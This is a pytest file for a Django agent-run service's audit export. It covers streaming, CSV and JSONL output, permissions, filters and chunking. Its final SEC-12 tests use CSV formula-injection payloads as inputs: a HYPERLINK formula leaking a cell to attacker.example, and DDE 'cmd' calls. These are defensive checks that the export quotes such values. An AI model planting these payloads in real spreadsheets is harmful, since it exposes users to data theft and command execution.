"""OPS-5: the audit export holds gate refusals and decisions with their approver, streamed,
never a source's text or a secret."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse

from agentruns import events as ev
from agentruns.models import Event, GateAudit, Run
from agentruns.runtime import faults
from agentruns.runtime.loop import execute_run
from tests.conftest import grant
from tests.support.catalog import (
    make_configuration,
    make_provider,
    make_snippet,
    scripted_configuration,
)
from tests.support.crash import fault_hook
from tests.support.ops import answer, client_for, parked_run
from tests.support.runs import submit

pytestmark = pytest.mark.django_db

SOURCE_TEXT = "TOP-SECRET-SNIPPET-TEXT-42"
ECHO = {"id": "call_e", "name": "test.echo", "arguments": {"text": "hi"}}


@pytest.fixture
def auditor(staff):
    return grant(staff, "view_audit", "approve_run")


def refused_run(user) -> int:
    snippet = make_snippet("secret-plan", data_class="restricted", text=SOURCE_TEXT)
    make_configuration(
        "leaky",
        provider=make_provider("far", zone="external_global"),
        snippets=[snippet],
        script={"turns": [{"text": "x"}]},
    )
    response = client_for(user).post(
        "/api/runs/", {"configuration": "leaky", "input": "go"}, format="json"
    )
    if response.status_code == 201:
        execute_run(response.json()["id"])
        return response.json()["id"]
    return 0


def export(user, **params) -> tuple[StreamingHttpResponse, str]:
    response = client_for(user).get("/api/audit/", params)
    assert response.status_code == 200, response
    assert isinstance(response, StreamingHttpResponse)
    return response, b"".join(response.streaming_content).decode()


def test_ops5_export_holds_a_refusal_and_a_decision_with_its_approver(auditor, settings):
    settings.AGENTRUNS_DATA_CLASS_ENFORCEMENT = "enforce"
    refused_run(auditor)
    assert GateAudit.objects.filter(verdict="refused").exists()
    run_id = parked_run(auditor, "approve-me")
    answer(auditor, run_id, "deny", note="not today")
    response, body = export(auditor, format="jsonl")
    assert response["Content-Type"].startswith("application/x-ndjson")
    records = [json.loads(line) for line in body.splitlines()]
    refusal = next(r for r in records if r["kind"] == "gate.refused")
    assert refusal["configuration"] == "leaky" and "secret-plan" in refusal["reason"]
    decision = next(r for r in records if r["kind"] == "ticket.decided")
    assert decision["run"] == run_id and decision["configuration"] == "approve-me"
    assert decision["actor"] == "staff" and decision["decision"] == "deny"
    assert decision["reason"] == "not today"
    times = [r["time"] for r in records]
    assert times == sorted(times)
    assert SOURCE_TEXT not in body


def test_ops5_csv_with_filters(auditor):
    first = parked_run(auditor, "one")
    answer(auditor, first)
    second = parked_run(auditor, "two")
    answer(auditor, second, "deny")
    response, body = export(auditor, format="csv", configuration="two", kind="ticket.decided")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(r["run"], r["decision"], r["actor"]) for r in rows] == [(str(second), "deny", "staff")]
    _, none = export(auditor, format="csv", **{"from": "2000-01-01", "to": "2000-01-02"})
    assert none.strip() == "time,kind,run,configuration,actor,decision,reason"


def test_ops5_export_needs_the_view_audit_permission(staff, member):
    assert client_for(staff).get("/api/audit/", {"format": "csv"}).status_code == 403
    grant(member, "view_audit")
    assert client_for(member).get("/api/audit/").status_code == 403  # not staff
    bad = client_for(grant(staff, "view_audit")).get("/api/audit/", {"from": "yesterday"})
    assert bad.status_code == 400


def test_ops5_the_admin_action_exports_the_same(auditor, client):
    run_id = parked_run(auditor, "adm")
    answer(auditor, run_id)
    # Selected rows from before and after the decision: their period holds it.
    GateAudit.objects.create(verdict="refused", enforcement="enforced", configuration="adm")
    client.force_login(auditor)
    ids = list(GateAudit.objects.values_list("pk", flat=True))
    response = client.post(
        "/admin/agentruns/auditrecord/",
        {"action": "export_jsonl", "_selected_action": ids},
    )
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    kinds = {json.loads(line)["kind"] for line in body.splitlines()}
    assert {"gate.refused", "ticket.decided"} <= kinds


def test_ops5_a_cancel_names_who_cancelled(auditor):
    run_id = parked_run(auditor, "stop-me")
    assert client_for(auditor).post(f"/api/runs/{run_id}/cancel/").status_code == 200
    _, body = export(auditor, format="jsonl", kind="run.cancelled")
    [record] = [json.loads(line) for line in body.splitlines()]
    assert (record["run"], record["actor"], record["decision"]) == (run_id, "staff", "cancelled")


def test_ops5_a_running_runs_cancel_names_who_asked_in_the_event_and_the_export(auditor, member):
    """OPS-5, HITL-11: a running run stops at its next step boundary; the loop's
    `run.cancelled` names the approver who cancelled it through the API (not the
    initiator), and so does the audit export."""
    scripted_configuration("busy", [{"tool_calls": [ECHO]}, {"text": "never asked"}])
    run = submit(member, "busy")
    answered = []

    def hook(name: str, count: int) -> None:
        if name == faults.TOOL_DONE and not answered:
            response = client_for(auditor).post(f"/api/runs/{run.pk}/cancel/")
            answered.append((response.status_code, response.json()["status"]))

    with fault_hook(hook):
        assert execute_run(run.pk) == Run.Status.CANCELLED
    assert answered == [(200, Run.Status.RUNNING)]
    last = Event.objects.filter(run=run).order_by("sequence").last()
    assert (last.type, last.payload) == (ev.RUN_CANCELLED, {"by": "staff"})
    _, body = export(auditor, format="csv", kind="run.cancelled")
    [record] = list(csv.DictReader(io.StringIO(body)))
    assert (record["run"], record["actor"], record["decision"]) == (
        str(run.pk),
        "staff",
        "cancelled",
    )


def test_ops5_perf8_the_export_reads_in_chunks_and_loses_or_repeats_no_row(auditor, monkeypatch):
    """Chunks start where the last ended, by (time, id): rows sharing a timestamp across a
    chunk boundary are all there, once each, in order."""
    from django.utils import timezone

    from agentruns.services import audit

    monkeypatch.setattr(audit, "CHUNK", 2)
    same, later = timezone.now(), timezone.now() + timezone.timedelta(seconds=1)
    rows = GateAudit.objects.bulk_create(
        GateAudit(verdict="refused", enforcement="enforced", configuration=f"c{i}")
        for i in range(7)
    )
    GateAudit.objects.filter(pk__in=[r.pk for r in rows[:5]]).update(created_at=same)
    GateAudit.objects.filter(pk__in=[r.pk for r in rows[5:]]).update(created_at=later)
    _, body = export(auditor, format="jsonl", kind="gate.refused")
    assert [json.loads(line)["configuration"] for line in body.splitlines()] == [
        f"c{i}" for i in range(7)
    ]


def test_ops5_a_day_given_as_to_is_included(auditor):
    """`from=D&to=D` is the whole day D (found by bench_scale: a date-only `to` was read as
    D's midnight, so a one-day export was always empty)."""
    from django.utils import timezone

    GateAudit.objects.create(verdict="refused", enforcement="enforced", configuration="today")
    today = timezone.now().date().isoformat()
    _, body = export(auditor, format="jsonl", **{"from": today, "to": today})
    assert [json.loads(line)["configuration"] for line in body.splitlines()] == ["today"]


FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"open")'


@pytest.mark.parametrize(
    "note", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
)
def test_sec12_a_note_that_starts_like_a_formula_opens_as_text(auditor, note):
    """SEC-12: the note on an answer lands in the auditor's spreadsheet; written with a
    leading ' it is text there, and the JSON lines export keeps it verbatim."""
    run_id = parked_run(auditor, "formula")
    answer(auditor, run_id, "deny", note=note)

    _, body = export(auditor, format="csv", kind="ticket.decided")

    [record] = list(csv.DictReader(io.StringIO(body)))
    assert record["reason"] == "'" + note
    _, lines = export(auditor, format="jsonl", kind="ticket.decided")
    assert json.loads(lines.splitlines()[0])["reason"] == note


def test_sec12_every_column_is_guarded_an_actor_named_like_a_formula_too(
    django_user_model, settings
):
    """Usernames may start with @, + or -; so may a configuration's slug."""
    user = grant(django_user_model.objects.create_user("@SUM+1", password="pw"), "view_audit")
    grant(user, "approve_run")
    user.is_staff = True
    user.save()
    run_id = parked_run(user, "-formula")
    answer(user, run_id, "allow")

    _, body = export(user, format="csv", kind="ticket.decided")

    [record] = list(csv.DictReader(io.StringIO(body)))
    assert record["actor"] == "'@SUM+1"
    assert record["configuration"] == "'-formula"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_sec12_each_formula_start_gets_a_leading_quote(start):
    from agentruns.services.audit import csv_cell

    assert csv_cell(start + "x") == "'" + start + "x"
    assert csv_cell("x" + start) == "x" + start
    assert csv_cell(None) == "" and csv_cell(12) == "12"
